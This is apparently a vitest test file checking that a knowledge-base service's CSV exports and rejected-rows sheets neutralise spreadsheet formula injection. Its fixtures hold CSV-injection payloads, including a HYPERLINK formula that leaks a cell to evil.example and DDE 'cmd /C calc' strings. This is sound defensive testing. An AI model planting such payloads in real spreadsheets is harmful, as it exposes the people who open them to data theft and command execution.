import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import request from 'supertest';
import { parse } from 'csv-parse/sync';
import { createApp } from '../server/app.js';
import { fixedClock } from '../server/kb/clock.js';
import { servicesFor } from './helpers/services.js';

/** What Excel runs as a formula when a CSV cell starts with it. */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

/** supertest: the response body as bytes. */
function binary(res: request.Response, cb: (err: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
}

const cellsOf = (csv: Buffer): string[][] => parse(csv.toString('utf8'), { bom: true, relax_column_count: true });

describe('CSV the service writes', () => {
  let s: Awaited<ReturnType<typeof servicesFor>>;
  let app: ReturnType<typeof createApp>;
  let editor: string;

  beforeAll(async () => {
    s = await servicesFor([], { clock: fixedClock('2026-08-26T02:00:00Z') });
    app = createApp(s);
    editor = s.tokens.create('张编辑', 'editor', 'test').token;
    const hostile = [
      { question: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', answer: '+1+cmd|\' /C calc\'!A0' },
      { question: '@SUM(1+1)*cmd|\' /C calc\'!A0', answer: '-2+3' },
      { question: '＝全角等号开头的问题？', answer: '\t=1+1 前面有制表符' },
      { question: '普通问题：居住证怎么办？', answer: '- 第一步：登录一网通办\n- 第二步：提交材料', keywords: ['=A1'] },
    ];
    for (const h of hostile) s.kb.entries.publish(s.kb.entries.create({ category: 'faq', ...h }, 'test').id, 'test');
  });
  afterAll(() => s.cleanup());

  it('an exported cell starting with = opens as text in Excel, and the export still imports back unchanged', async () => {
    const res = await request(app).get('/api/v1/admin/entries/export?format=csv').set('Authorization', `Bearer ${editor}`).buffer(true).parse(binary).expect(200);
    const rows = cellsOf(res.body);
    const cells = rows.flat();
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"点击查看")`);
    expect(cells).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(cells).toContain(`'- 第一步：登录一网通办\n- 第二步：提交材料`);
    // the apostrophe is for the spreadsheet: importing the file gives the same entries back
    const preview = await request(app)
      .post(`/api/v1/admin/documents/preview?name=${encodeURIComponent('导出.csv')}`)
      .set('Authorization', `Bearer ${editor}`)
      .set('Content-Type', 'application/octet-stream')
      .send(res.body)
      .expect(200);
    expect(preview.body.counts).toEqual({ create: 0, update: 0, unchanged: 4, archive: 0 });
  });

  it('the rejected-rows sheet neutralises formula cells too, and reads back as the rows sent', async () => {
    const upload = Buffer.from('\ufeff问题,答案,生效日期\r\n=1+1,+答案,2024-02-30\r\n好问题,好答案,2024-02-28\r\n', 'utf8');
    const res = await request(app)
      .post(`/api/v1/admin/documents/rejected?name=${encodeURIComponent('表.csv')}&format=csv`)
      .set('Authorization', `Bearer ${editor}`)
      .set('Content-Type', 'application/octet-stream')
      .send(upload)
      .buffer(true)
      .parse(binary)
      .expect(200);
    const rows = cellsOf(res.body);
    expect(rows[1].slice(0, 3)).toEqual(["'=1+1", "'+答案", '2024-02-30']);
    expect(rows.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
  });
});
